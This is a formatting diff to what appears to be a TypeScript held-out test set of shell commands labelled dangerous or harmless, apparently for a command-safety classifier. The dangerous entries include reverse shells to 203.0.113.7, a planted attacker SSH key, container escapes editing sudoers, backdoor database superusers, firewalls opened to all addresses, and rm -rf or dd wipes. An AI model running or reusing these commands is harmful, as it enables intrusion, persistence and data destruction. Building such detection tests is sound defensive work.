@@ -9,7 +9,15 @@ import type { LabelledCommand } from '../support/runtime.js';
  * by case.
  */
 
-type Family = 'remote-control' | 'escapes' | 'fleet' | 'containers' | 'database-roles' | 'network-exposure' | 'vendor-clis' | 'editors-and-wrappers';
+type Family =
+  | 'remote-control'
+  | 'escapes'
+  | 'fleet'
+  | 'containers'
+  | 'database-roles'
+  | 'network-exposure'
+  | 'vendor-clis'
+  | 'editors-and-wrappers';
 
 export interface HeldOutCase extends LabelledCommand {
   family: Family;
@@ -35,8 +43,14 @@ export const remoteAndEscapesSet: readonly HeldOutCase[] = [
   d('remote-control', 'ncat -lvkp 4444 -e /bin/bash'),
   d('remote-control', 'socat tcp-connect:203.0.113.7:4444 exec:/bin/bash,pty,stderr,setsid,sigint,sane'),
   d('remote-control', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'),
-  d('remote-control', 'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])\''),
-  d('remote-control', 'perl -e \'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\''),
+  d(
+    'remote-control',
+    'python3 -c \'import socket,subprocess,os;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])\'',
+  ),
+  d(
+    'remote-control',
+    'perl -e \'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};\'',
+  ),
   d('remote-control', 'ssh -N -R 2222:localhost:22 tunnel@203.0.113.7'),
   d('remote-control', 'ssh -fN -R 0.0.0.0:5432:localhost:5432 relay@vps.example.net'),
   d('remote-control', 'ngrok tcp 22'),
@@ -66,7 +80,7 @@ export const remoteAndEscapesSet: readonly HeldOutCase[] = [
   d('escapes', "tar -cf /dev/null notes.txt --checkpoint=1 --checkpoint-action=exec='rm -rf /home/dev/data'"),
   d('escapes', "tar -xf image.tar --to-command='dd of=/dev/sda bs=4M'"),
   d('escapes', "gdb -nx -batch -ex 'shell rm -rf /var/lib/postgresql'"),
-  d('escapes', "awk 'BEGIN { system(\"rm -rf /home/dev/project\") }'"),
+  d('escapes', 'awk \'BEGIN { system("rm -rf /home/dev/project") }\''),
   d('escapes', "find /home/dev -maxdepth 1 -name '.gnupg' -exec rm -rf {} +"),
   d('escapes', "tmux new-session -d 'rm -rf /srv/backups'"),
   d('escapes', "screen -dmS wipe bash -c 'rm -rf /var/www/html'"),
@@ -82,7 +96,7 @@ export const remoteAndEscapesSet: readonly HeldOutCase[] = [
   h('escapes', "tar -xf data.tar --to-command='wc -c'"),
   h('escapes', "gdb -batch -ex 'bt' ./app core"),
   h('escapes', "find . -name '*.pyc' -exec ls -l {} +"),
-  h('escapes', "awk '{ system(\"echo \" $1) }' hosts.txt"),
+  h('escapes', 'awk \'{ system("echo " $1) }\' hosts.txt'),
   h('escapes', "tmux new-session -d -s dev 'npm run dev'"),
   h('escapes', 'screen -dmS build make -j8'),
   h('escapes', "watch -n 5 'kubectl get pods'"),
@@ -93,7 +107,10 @@ export const remoteAndEscapesSet: readonly HeldOutCase[] = [
   d('fleet', "ansible all -i inventories/production -m shell -a 'rm -rf /var/lib/app/*'"),
   d('fleet', "ansible all -i inventories/production -m file -a 'path=/etc/nginx state=absent' --become"),
   d('fleet', "ansible all -i inventories/production -b -m user -a 'name=deploy state=absent remove=yes'"),
-  d('fleet', 'ansible all -i inventories/production -b -m authorized_key -a "user=root key=\'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@evil\'"'),
+  d(
+    'fleet',
+    'ansible all -i inventories/production -b -m authorized_key -a "user=root key=\'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFake attacker@evil\'"',
+  ),
   d('fleet', 'ansible-playbook -i inventories/production playbooks/teardown.yml'),
   d('fleet', 'ansible-playbook playbooks/wipe-db.yml -i inventories/production --limit db'),
   d('fleet', 'ansible-playbook -i inventories/production playbooks/rotate-root-password.yml -e target=all'),
@@ -125,7 +142,10 @@ export const remoteAndEscapesSet: readonly HeldOutCase[] = [
   d('containers', 'docker run --cap-add=SYS_ADMIN --security-opt apparmor=unconfined -it ubuntu bash'),
   d('containers', 'docker run -d --cap-add ALL --name toolbox ubuntu sleep infinity'),
   d('containers', 'docker run -it -v /var/run/docker.sock:/var/run/docker.sock docker:cli sh'),
-  d('containers', 'docker run --rm -v /etc:/mnt/etc alpine sh -c \'echo "dev ALL=(ALL) NOPASSWD:ALL" >> /mnt/etc/sudoers\''),
+  d(
+    'containers',
+    'docker run --rm -v /etc:/mnt/etc alpine sh -c \'echo "dev ALL=(ALL) NOPASSWD:ALL" >> /mnt/etc/sudoers\'',
+  ),
   d('containers', 'sudo nsenter --target 1 --mount --uts --ipc --net --pid -- bash'),
   d('containers', 'podman run --rm -it --device /dev/sda fedora bash'),
   d('containers', 'docker system prune -a --volumes -f'),
@@ -154,9 +174,12 @@ export const remoteAndEscapesSet: readonly HeldOutCase[] = [
   d('database-roles', 'psql -h prod-db-1 -c "ALTER ROLE postgres PASSWORD \'hunter2\'"'),
   d('database-roles', "psql -h prod-db-1 -U postgres -c 'DROP ROLE analytics;'"),
   d('database-roles', 'createuser -s -h prod-db-1 -U postgres backdoor'),
-  d('database-roles', 'mysql -u root -e "CREATE USER \'ops\'@\'%\' IDENTIFIED BY \'pw\'; GRANT ALL PRIVILEGES ON *.* TO \'ops\'@\'%\' WITH GRANT OPTION;"'),
-  d('database-roles', 'mysql -e "ALTER USER \'root\'@\'localhost\' IDENTIFIED BY \'newpass\'"'),
-  d('database-roles', 'mysql -h prod-db-1 -e "DROP USER \'billing\'@\'%\'"'),
+  d(
+    'database-roles',
+    "mysql -u root -e \"CREATE USER 'ops'@'%' IDENTIFIED BY 'pw'; GRANT ALL PRIVILEGES ON *.* TO 'ops'@'%' WITH GRANT OPTION;\"",
+  ),
+  d('database-roles', "mysql -e \"ALTER USER 'root'@'localhost' IDENTIFIED BY 'newpass'\""),
+  d('database-roles', "mysql -h prod-db-1 -e \"DROP USER 'billing'@'%'\""),
   d('database-roles', 'mongosh admin --eval \'db.createUser({user:"x",pwd:"y",roles:["root"]})\''),
   d('database-roles', "redis-cli -h prod-cache-1 ACL SETUSER guest on nopass '~*' '+@all'"),
   h('database-roles', "psql -d app_dev -c 'SELECT rolname, rolsuper FROM pg_roles;'"),
@@ -165,20 +188,38 @@ export const remoteAndEscapesSet: readonly HeldOutCase[] = [
   h('database-roles', "psql -d app_dev -c 'GRANT SELECT ON ALL TABLES IN SCHEMA public TO test_reader;'"),
   h('database-roles', "psql -h localhost -U dev -d app_dev -c 'GRANT SELECT, INSERT ON todos TO dev_app;'"),
   h('database-roles', 'createuser --no-superuser --no-createdb --no-createrole dev_app'),
-  h('database-roles', 'mysql -u root -e "CREATE USER \'dev\'@\'localhost\' IDENTIFIED BY \'devpw\'; GRANT SELECT ON app_dev.* TO \'dev\'@\'localhost\';"'),
+  h(
+    'database-roles',
+    "mysql -u root -e \"CREATE USER 'dev'@'localhost' IDENTIFIED BY 'devpw'; GRANT SELECT ON app_dev.* TO 'dev'@'localhost';\"",
+  ),
   h('database-roles', "mysql -e 'SHOW GRANTS FOR CURRENT_USER()'"),
   h('database-roles', "mysql -h prod-db-1 -e 'SELECT user, host FROM mysql.user'"),
   h('database-roles', "mongosh app_dev --eval 'db.getUsers()'"),
-  h('database-roles', 'mongosh app_dev --eval \'db.createUser({user:"tester",pwd:"t",roles:[{role:"read",db:"app_dev"}]})\''),
+  h(
+    'database-roles',
+    'mongosh app_dev --eval \'db.createUser({user:"tester",pwd:"t",roles:[{role:"read",db:"app_dev"}]})\'',
+  ),
   h('database-roles', 'redis-cli ACL LIST'),
   h('database-roles', "psql -h prod-db-1 -c 'SELECT count(*) FROM orders;'"),
 
   // ── network-exposure ─────
-  d('network-exposure', 'aws ec2 authorize-security-group-ingress --group-id sg-0abc1234 --protocol tcp --port 22 --cidr 0.0.0.0/0'),
-  d('network-exposure', "aws ec2 authorize-security-group-ingress --group-id sg-0abc1234 --ip-permissions 'IpProtocol=tcp,FromPort=5432,ToPort=5432,IpRanges=[{CidrIp=0.0.0.0/0}]'"),
-  d('network-exposure', 'gcloud compute firewall-rules create allow-ssh-any --network default --allow tcp:22 --source-ranges 0.0.0.0/0'),
+  d(
+    'network-exposure',
+    'aws ec2 authorize-security-group-ingress --group-id sg-0abc1234 --protocol tcp --port 22 --cidr 0.0.0.0/0',
+  ),
+  d(
+    'network-exposure',
+    "aws ec2 authorize-security-group-ingress --group-id sg-0abc1234 --ip-permissions 'IpProtocol=tcp,FromPort=5432,ToPort=5432,IpRanges=[{CidrIp=0.0.0.0/0}]'",
+  ),
+  d(
+    'network-exposure',
+    'gcloud compute firewall-rules create allow-ssh-any --network default --allow tcp:22 --source-ranges 0.0.0.0/0',
+  ),
   d('network-exposure', 'gcloud compute firewall-rules update allow-internal --source-ranges 0.0.0.0/0'),
-  d('network-exposure', "az network nsg rule create -g prod-rg --nsg-name prod-nsg -n AllowSSH --priority 100 --source-address-prefixes '*' --destination-port-ranges 22 --access Allow --protocol Tcp"),
+  d(
+    'network-exposure',
+    "az network nsg rule create -g prod-rg --nsg-name prod-nsg -n AllowSSH --priority 100 --source-address-prefixes '*' --destination-port-ranges 22 --access Allow --protocol Tcp",
+  ),
   d('network-exposure', 'sudo ufw allow 22/tcp'),
   d('network-exposure', 'sudo ufw allow from any to any port 3306 proto tcp'),
   d('network-exposure', 'sudo ufw disable'),
@@ -186,13 +227,28 @@ export const remoteAndEscapesSet: readonly HeldOutCase[] = [
   d('network-exposure', 'sudo iptables -F'),
   d('network-exposure', 'sudo nft flush ruleset'),
   d('network-exposure', 'sudo firewall-cmd --permanent --zone=public --add-port=5432/tcp'),
-  d('network-exposure', 'aws rds modify-db-instance --db-instance-identifier prod-db --publicly-accessible --apply-immediately'),
+  d(
+    'network-exposure',
+    'aws rds modify-db-instance --db-instance-identifier prod-db --publicly-accessible --apply-immediately',
+  ),
   h('network-exposure', 'aws ec2 describe-security-groups --group-ids sg-0abc1234'),
-  h('network-exposure', 'aws ec2 authorize-security-group-ingress --group-id sg-0abc1234 --protocol tcp --port 5432 --cidr 10.0.0.0/16'),
-  h('network-exposure', "gcloud compute firewall-rules list --format='table(name,sourceRanges.list(),allowed[].map().firewall_rule().list())'"),
-  h('network-exposure', 'gcloud compute firewall-rules create allow-internal-pg --network dev-vpc --allow tcp:5432 --source-ranges 10.128.0.0/9'),
+  h(
+    'network-exposure',
+    'aws ec2 authorize-security-group-ingress --group-id sg-0abc1234 --protocol tcp --port 5432 --cidr 10.0.0.0/16',
+  ),
+  h(
+    'network-exposure',
+    "gcloud compute firewall-rules list --format='table(name,sourceRanges.list(),allowed[].map().firewall_rule().list())'",
+  ),
+  h(
+    'network-exposure',
+    'gcloud compute firewall-rules create allow-internal-pg --network dev-vpc --allow tcp:5432 --source-ranges 10.128.0.0/9',
+  ),
   h('network-exposure', 'az network nsg rule list -g dev-rg --nsg-name dev-nsg -o table'),
-  h('network-exposure', 'az network nsg rule create -g dev-rg --nsg-name dev-nsg -n AllowVnetHttps --priority 200 --source-address-prefixes 10.1.0.0/16 --destination-port-ranges 443 --access Allow --protocol Tcp'),
+  h(
+    'network-exposure',
+    'az network nsg rule create -g dev-rg --nsg-name dev-nsg -n AllowVnetHttps --priority 200 --source-address-prefixes 10.1.0.0/16 --destination-port-ranges 443 --access Allow --protocol Tcp',
+  ),
   h('network-exposure', 'sudo ufw status verbose'),
   h('network-exposure', 'sudo ufw allow from 192.168.1.0/24 to any port 22'),
   h('network-exposure', 'sudo iptables -L -n -v'),
@@ -205,8 +261,14 @@ export const remoteAndEscapesSet: readonly HeldOutCase[] = [
   d('vendor-clis', 'doctl compute droplet delete prod-web-1 --force'),
   d('vendor-clis', 'hcloud server delete prod-api-1'),
   d('vendor-clis', 'linode-cli linodes delete 12345678'),
-  d('vendor-clis', 'scw instance server delete 11111111-1111-1111-1111-111111111111 with-volumes=all with-ip=true'),
-  d('vendor-clis', 'oci compute instance terminate --instance-id ocid1.instance.oc1..aaaaexample --preserve-boot-volume false --force'),
+  d(
+    'vendor-clis',
+    'scw instance server delete 11111111-1111-1111-1111-111111111111 with-volumes=all with-ip=true',
+  ),
+  d(
+    'vendor-clis',
+    'oci compute instance terminate --instance-id ocid1.instance.oc1..aaaaexample --preserve-boot-volume false --force',
+  ),
   d('vendor-clis', 'exo compute instance delete prod-web-1 -f'),
   d('vendor-clis', 'vultr-cli instance delete cb676a46-66fd-4dfb-b839-443f2e6c0b60'),
   d('vendor-clis', 'consul kv delete -recurse config/'),
